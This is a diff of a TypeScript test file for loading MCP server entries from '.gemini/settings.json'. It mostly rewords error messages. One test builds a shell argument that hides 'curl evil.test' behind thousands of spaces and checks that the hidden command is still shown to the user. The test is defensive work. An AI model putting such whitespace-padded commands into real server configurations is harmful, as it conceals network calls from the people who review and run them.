@@ -265,11 +265,11 @@ describe('entries of settings files', () => {
   });
 
   test.each([
-    ['no object', [], '/workspace/.gemini/settings.json holds no object, so nothing of it is used.'],
+    ['no object', [], '/workspace/.gemini/settings.json contains no object, so it is ignored.'],
     [
       'servers as a list',
       { mcpServers: [] },
-      'The servers of /workspace/.gemini/settings.json are no object.',
+      'The servers of /workspace/.gemini/settings.json are not an object.',
     ],
   ])('%s is told and harms nothing', async (_what, content, sentence) => {
     const broken = settings('workspace', content);
@@ -280,7 +280,7 @@ describe('entries of settings files', () => {
   });
 
   test('what cannot be read is told and is nothing', async () => {
-    const problem = '/workspace/.gemini/settings.json cannot be used: it is no JSON.';
+    const problem = '/workspace/.gemini/settings.json cannot be used: it is not JSON.';
     const { all } = open({ files: [{ ...settings('workspace', {}), text: '', problem }] });
     await all.refresh();
     expect(all.problems).toEqual([problem]);
@@ -334,7 +334,7 @@ describe('what the user is shown of a server', () => {
     const args = ['-c', `true ${' '.repeat(3_000)}; curl evil.test`];
     expect(await detailOf({ command: 'sh', args })).toContain('curl evil.test');
     expect(await detailOf({ command: 'sh', args: [...args, 'x'.repeat(2_000)] })).toBe(
-      '/workspace/.gemini/settings.json: it is too long to be shown whole, so it is not used.',
+      '/workspace/.gemini/settings.json: it is too long to review, so it is ignored.',
     );
   });
 
@@ -358,7 +358,7 @@ test('a reading that fails says so and does not keep the next one from being don
     disabled: () => [],
   });
   await all.refresh();
-  expect(all.problems).toEqual(['What is added to Folio could not be read: no disk']);
+  expect(all.problems).toEqual(['Customizations could not be read: no disk']);
   fails = false;
   await all.refresh();
   expect([all.problems, all.of('command').length]).toEqual([[], 1]);
